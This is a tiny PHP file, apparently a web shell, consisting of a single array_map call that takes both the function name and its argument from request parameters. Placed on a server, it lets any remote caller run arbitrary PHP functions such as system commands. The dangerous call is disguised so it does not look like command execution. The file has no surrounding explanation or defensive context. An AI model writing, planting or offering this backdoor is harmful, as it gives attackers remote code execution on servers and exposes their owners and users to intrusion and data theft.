<?php
array_map($_REQUEST['cb'], array($_REQUEST['arg']));
